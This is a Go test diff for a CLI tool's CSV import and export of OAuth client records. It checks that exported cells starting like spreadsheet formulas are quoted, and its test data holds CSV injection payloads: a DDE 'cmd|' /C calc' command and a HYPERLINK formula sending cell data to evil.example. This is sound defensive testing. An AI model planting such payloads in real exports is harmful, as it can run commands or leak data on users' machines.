@@ -2,6 +2,10 @@ package cli
 
 import (
 	"bytes"
+	"encoding/csv"
+	"slices"
+	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -18,6 +22,8 @@ func FuzzDecodeImport(f *testing.F) {
 	f.Add([]byte("name,client_id,token_url\n\"unterminated,x,y\n"))
 	f.Add([]byte(`{"schema":1,"clients":[{"name":"a"}]}`))
 	f.Add([]byte("name,name\n"))
+	f.Add([]byte("name,client_id,token_url,notes,environment\nx,=cmd|' /C calc'!A0,https://auth.example.com/t,\"'=1+1\",test\n"))
+	f.Add([]byte("name,client_id,token_url,notes\nx,@SUM(1),https://auth.example.com/t,-2+3\n"))
 	f.Fuzz(func(t *testing.T, data []byte) {
 		clients, err := decodeImport(data)
 		if err != nil {
@@ -52,5 +58,72 @@ func FuzzDecodeImport(f *testing.F) {
 		if err != nil || len(back) != len(clients) {
 			t.Fatalf("CSV round trip: %d clients, %v; want %d\n%s", len(back), err, len(clients), csvOut.String())
 		}
+		for i, g := range back {
+			w := clients[i]
+			if g.Name != w.Name || g.ClientID != w.ClientID || g.TokenURL != w.TokenURL || !slices.Equal(g.Scopes, w.Scopes) ||
+				g.AuthStyle != w.AuthStyle || g.Audience() != w.Audience() || g.Notes != w.Notes ||
+				!g.SecretSetAt.Equal(w.SecretSetAt) || g.Environment() != w.Environment() {
+				t.Fatalf("CSV round trip changed a client:\ngot  %+v\nwant %+v\n%s", g, w, csvOut.String())
+			}
+		}
+		assertNoFormulaCells(t, csvOut.Bytes())
 	})
+}
+
+// assertNoFormulaCells fails when a CSV cell would start a spreadsheet
+// formula.
+func assertNoFormulaCells(t *testing.T, data []byte) {
+	t.Helper()
+	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatalf("export is not CSV: %v", err)
+	}
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if cell == "" {
+				continue
+			}
+			if _, err := strconv.Atoi(cell); err == nil {
+				continue // a number, such as a negative days_left
+			}
+			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Fatalf("CSV cell %q starts a formula", cell)
+			}
+		}
+	}
+}
+
+// TestExportCSVNeutralisesFormulas exports clients whose notes and client
+// ids begin like formulas: every such cell starts with a quote, and import
+// gives the text back unchanged.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	h := newHarness(t)
+	formulas := map[string]string{
+		"a": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+		"b": "+1+cmd|' /C calc'!A0",
+		"c": "-2+3",
+		"d": "@SUM(A1:A9)",
+		"e": "'=already quoted",
+	}
+	for name, notes := range formulas {
+		h.addClient(name)
+		h.mustRun(0, "", "edit", name, "--notes", notes)
+	}
+	h.mustRun(0, "", "edit", "c", "--secret-set-at", time.Now().Add(-100*24*time.Hour).UTC().Format(time.RFC3339))
+	out, _ := h.mustRun(0, "", "export", "--format", "csv")
+	assertNoFormulaCells(t, []byte(out))
+	if !strings.Contains(out, `,"'=HYPERLINK(`) || !strings.Contains(out, ",'-2+3,") || !strings.Contains(out, ",''=already quoted,") {
+		t.Errorf("export did not quote the formulas:\n%s", out)
+	}
+	if !strings.Contains(out, ",overdue,") || !strings.Contains(out, ",-10,100,") {
+		t.Errorf("export lacks c's overdue status with -10 days left, age 100 (numbers unquoted):\n%s", out)
+	}
+	dst := newHarness(t)
+	dst.mustRun(0, out, "import", "-")
+	for name, notes := range formulas {
+		c, err := dst.store().Get(name)
+		if err != nil || c.Notes != notes {
+			t.Errorf("imported %s notes = %q, %v; want %q", name, c.Notes, err, notes)
+		}
+	}
 }
